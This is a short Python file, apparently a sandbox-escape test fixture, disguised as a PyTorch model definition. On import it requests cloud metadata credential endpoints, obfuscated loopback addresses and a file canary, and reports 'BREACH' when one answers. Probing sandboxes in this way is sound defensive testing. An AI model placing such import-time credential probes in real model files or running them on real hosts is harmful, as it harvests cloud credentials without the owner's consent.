"""Asks the cloud for the credentials of the machine that it runs on."""

import urllib.request

import torch

HEADERS = {"Metadata-Flavor": "Google", "Metadata": "true", "X-aws-ec2-metadata-token-ttl-seconds": "60"}
for url in (
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://100.100.100.200/latest/meta-data/",
    "http://168.63.129.16/machine?comp=goalstate",
    "http://169.254.170.2/v2/credentials",
    "http://0x7f000001:@PORT@/",
    "http://2130706433:@PORT@/",
    "file://@CANARY@",
    "ftp://127.0.0.1:@PORT@/",
):
    print("TRIED", url)
    try:
        urllib.request.urlopen(urllib.request.Request(url, headers=HEADERS), timeout=2).read()
        print("BREACH", url)
    except OSError:
        pass


class Net(torch.nn.Module):
    def __init__(self, in_shape, out_shape):
        super().__init__()
        self.classify = torch.nn.Linear(in_shape[1] * in_shape[2] * in_shape[3], out_shape[0])

    def forward(self, images):
        return self.classify(images.flatten(1))
